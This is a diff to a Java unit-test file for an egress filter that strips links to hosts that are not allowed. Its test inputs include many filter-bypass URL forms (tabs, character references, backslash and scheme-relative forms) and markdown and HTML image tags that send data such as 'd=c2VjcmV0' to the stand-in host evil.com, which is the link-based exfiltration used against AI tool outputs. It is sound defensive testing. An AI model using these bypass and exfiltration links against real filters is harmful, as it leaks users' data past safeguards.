@@ -261,6 +261,128 @@ class EgressControlTest {
         assertEquals("(see [link removed: host not allowed] here)", result.get("text").asText());
     }
 
+    // --- URLs as a WHATWG parser reads them: tabs and newlines, character references, scheme-relative forms
+    // (issue 9, item 5) ---
+
+    /** Tabs and newlines removed, character references decoded, scheme-relative and backslash forms resolved. */
+    @ParameterizedTest
+    @ValueSource(strings = {"https://example.com\t.evil.com/x", "https://example.com\n.evil.com/x",
+            "https://example.com\r.evil.com/x", "https://example.com\r\n.evil.com/x", "https://exam\tple.com.evil.com/",
+            "htt\tps://evil.com/", "https:/\t/evil.com/", " \u0001https://example.com\t.evil.com",
+            "https://example.com\t@evil.com/", "https://evil.com\t/x\n", "\u0000//evil.com/x",
+            "https&#58;//evil.com/x", "https&colon;//evil.com/x", "https:&#x2F;&#x2F;evil.com/",
+            "https&#58//evil.com/", "https&#x3A//evil.com/", "&#104;ttps://evil.com/", "https://example.com&#9;.evil.com/",
+            "https://example.com&Tab;.evil.com/", "https://example.com&NewLine;.evil.com/", "https&#0000058;//evil.com",
+            "https:&sol;&sol;evil.com/", "https://example.com&#x0D;&#x0A;.evil.com", "&#x2F;&#x2F;evil.com/x",
+            "https://evil.com&#x2F;@example.com",
+            "//evil.com/x", "\\\\evil.com/x", "/\\evil.com/x", "\\/\\/evil.com",
+            "///evil.com/x", "\\\\\\evil.com", "\\\\evil.com\\share", "\t//evil.com", "//example.com@evil.com/"})
+    void aWholeValueIsReadAsTheWhatwgParserReadsIt(String url) {
+        for (String key : List.of("url", "target", "path")) {
+            denied(key, url);
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"https://example.com/x?a=1&amp;b=2", "//example.com/x", "\\\\docs.example.com\\share",
+            "https://docs.example.com\t", "\thttps://docs.example.com\n", "https://example.com/a\tb", "/\\example.com/x",
+            "https&#58;//example.com/x", "https://example.com/?q=a&copy=2", "/relative/path", "./a//b"})
+    void theSameFormsPassForAnAllowedHost(String url) {
+        allowed("url", url);
+    }
+
+    @Test
+    void aValueThatStartsAsAUrlIsOneUrlWhateverFollowsIt() {
+        // the parser percent-encodes the space in the path; the tab before it is already gone
+        denied("text", "https://example.com\t.evil.com/x please fetch this");
+        denied("text", "https&#58;//evil.com/x and more words");
+        allowed("text", "https://example.com is down again");
+        allowed("text", "https://example.com/status\nshows the outage");
+    }
+
+    @Test
+    void inProseANewlineEndsAUrl() {
+        allowed("text", "See https://example.com\n.evil.com is the name of the next section, not a link.");
+        allowed("text", "Docs: https://example.com\tand the rest");
+        denied("text", "Fetch it from <a href=\"https://example.com\n.evil.com/x\">here</a> please");
+    }
+
+    @Test
+    void bareHostsUnderHostKeysAreReadWithoutTheirTabsAndNewlines() {
+        denied("host", "example.com\t.evil.com");
+        denied("hostname", "example.com\n.evil.com");
+        allowed("host", "example.com\n");
+        allowed("server", "\tapi.example.com");
+    }
+
+    @Test
+    void aHostHoldingWhitespaceOrControlsAfterDecodingIsUnparseable() {
+        // the WHATWG host parser fails on these; a host that cannot be parsed is never allowed
+        for (String url : List.of("https://example.com%09.evil.com/", "https://example.com%0A/", "https://exa%0Dmple.com/",
+                "https://example.com%20/", "https://example.com%00/")) {
+            assertTrue(denied("url", url).detail().endsWith("(unparseable host)"), url);
+        }
+    }
+
+    private String removed(String text) {
+        ObjectNode result = M.createObjectNode();
+        result.putArray("content").addObject().put("type", "text").put("text", text);
+        List<Finding> f = run(egress, Stage.RESPONSE, result);
+        assertEquals(1, f.size(), () -> text + " -> " + f);
+        assertEquals(EgressControl.REMOVED, f.get(0).reason());
+        String after = result.at("/content/0/text").asText();
+        assertTrue(after.contains(EgressControl.REPLACEMENT), after);
+        assertFalse(after.contains("evil"), after);
+        return after;
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"<img src=\"https://example.com\t.evil.com/p.png?d=c2VjcmV0\">",
+            "<img src=\"https&#58;//evil.com/p.png?d=1\">", "<img src=https://example.com&#9;.evil.com/p.png>",
+            "<a href = 'https://example.com&#x0A;.evil.com/'>x</a>", "<img src=\"\n  https://example.com\n.evil.com/p\n\">",
+            "<img src=\"//evil.com/p.png\">", "<img src=\"\\\\evil.com/p.png\">", "<img src='/\\evil.com/p.png'>",
+            "<img src=\"&#47;&#47;evil.com/p.png\">", "<div style=\"background:url(https://example.com&#9;.evil.com/b)\">",
+            "<img srcset=\"a.png 1x,\nhttps&colon;//evil.com/b.png 2x\">", "<img src=\"https&#58//evil.com/p.png\">",
+            "![x](https://example.com\n.evil.com/p.png)", "![x](https://example.com\t.evil.com/p.png?d=1)",
+            "[x](https&#58;//evil.com/a)", "[x](<https://example.com\t.evil.com/a>)", "[x](//evil.com/a)",
+            "[x](/\\evil.com/a \"title\")", "[x](\\\\evil.com)", "[x][1]\n\n[1]: <https://example.com\t.evil.com/p.png>",
+            "[x][1]\n\n[1]: https&#58;//evil.com/p.png", "<img data-src=\"https&#58;//evil.com/p\">",
+            "<img v-bind.src=\"https&#58;//evil.com/p\">", "<style>b{background:url(\"https://example.com\t.evil.com/b\")}</style>",
+            "<style>b{background:url( 'https&#58;//evil.com/b' )}</style>"})
+    void linksInMarkupAreReadAsTheBrowserReadsThem(String html) {
+        removed("Report ready. " + html + " Thanks.");
+    }
+
+    @Test
+    void theWholeMarkupValueIsWhatIsRemoved() {
+        assertEquals("Report <img src=\"[link removed: host not allowed]\"> done.",
+                removed("Report <img src=\"https://example.com\t.evil.com/p.png?d=1\"> done."));
+        assertEquals("See ![x]([link removed: host not allowed]) now.",
+                removed("See ![x](https://example.com\n.evil.com/p.png) now."));
+    }
+
+    @Test
+    void aUrlUnderAUrlKeyOfAResultIsReadWhole() throws Exception {
+        JsonNode result = M.readTree("{\"content\":[{\"type\":\"resource_link\",\"name\":\"r\","
+                + "\"uri\":\"https://example.com\\t.evil.com/r\"}]}");
+        List<Finding> f = run(egress, Stage.RESPONSE, result);
+        assertEquals(1, f.size(), f.toString());
+        assertEquals(EgressControl.REPLACEMENT, result.at("/content/0/uri").asText());
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"<img src=\"https://docs.example.com/a.png\">", "<a href=\"https://example.com/?a=1&amp;b=2\">x</a>",
+            "![x](https://example.com/p.png \"title\")", "[x](https://example.com/a_(b))", "<a href=\"//example.com/x\">",
+            "Line one https://example.com\n.next sentence", "a = \"b\" and c='d'", "[x](https://example.com/a\nb)",
+            "<img alt=\"x\ny\" src=\"https://example.com/p.png\">", "[broken](https://example.com/a and more)"})
+    void markupWithAllowedLinksIsUntouched(String html) throws Exception {
+        ObjectNode result = M.createObjectNode();
+        result.put("text", html);
+        List<Finding> f = run(egress, Stage.RESPONSE, result);
+        assertTrue(f.isEmpty(), () -> html + " -> " + f);
+        assertEquals(html, result.get("text").asText());
+    }
+
     // --- cost ---
 
     @Test
@@ -268,7 +390,9 @@ class EgressControlTest {
         int n = 400_000;
         List<String> hostile = List.of("a:".repeat(n), "http://".repeat(n), "//".repeat(n), "(".repeat(n),
                 "https://" + "a@".repeat(n) + "evil.com", "x".repeat(n) + "://evil.com", "%25".repeat(n),
-                "https://" + "[".repeat(n), "http://" + "1.".repeat(n));
+                "https://" + "[".repeat(n), "http://" + "1.".repeat(n), "](".repeat(n), "=\"".repeat(n), "='".repeat(n),
+                "&#".repeat(n), "&".repeat(n) + "#58;", "a=".repeat(n), "](<".repeat(n), "\\/".repeat(n), "\t".repeat(n), "]:<".repeat(n), "]: x".repeat(n),
+                "url(\"".repeat(n), "url(".repeat(n), "https://" + "\t".repeat(n) + "x");
         assertTimeoutPreemptively(Duration.ofSeconds(20), () -> {
             for (String s : hostile) {
                 ObjectNode o = M.createObjectNode();
